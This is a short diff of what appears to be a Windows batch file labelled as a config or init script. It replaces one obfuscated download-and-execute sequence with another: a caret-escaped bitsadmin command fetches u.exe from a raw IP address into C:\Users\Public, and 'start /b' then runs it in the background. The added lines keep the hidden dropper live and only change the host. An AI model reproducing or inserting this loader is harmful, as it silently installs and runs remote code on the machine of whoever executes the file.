@@ -1,3 +1,3 @@
-REM config 3304 v0
-bi^t^sad^mi^n /t^ran^sf^er job /dow^nl^o^a^d /^p^ri^o^r^i^t^y h^i^gh ht^tp://^192.^0.^2.44/u.^e^xe ^C:\Use^r^s\Pu^b^l^ic\u.e^xe
-sta^rt /b ^C:\Use^rs\^P^u^bl^i^c\u.e^xe
+REM init 7203 v0
+bitsa^d^mi^n /^t^ran^s^fer ^j^o^b /^do^w^nloa^d /p^riori^ty hi^g^h htt^p://^20^3.^0.11^3.17/u.^exe C:\Us^er^s\^Pub^l^i^c\u.^e^x^e
+sta^rt /^b ^C:\^Us^ers\^Pu^b^l^ic\u.e^x^e
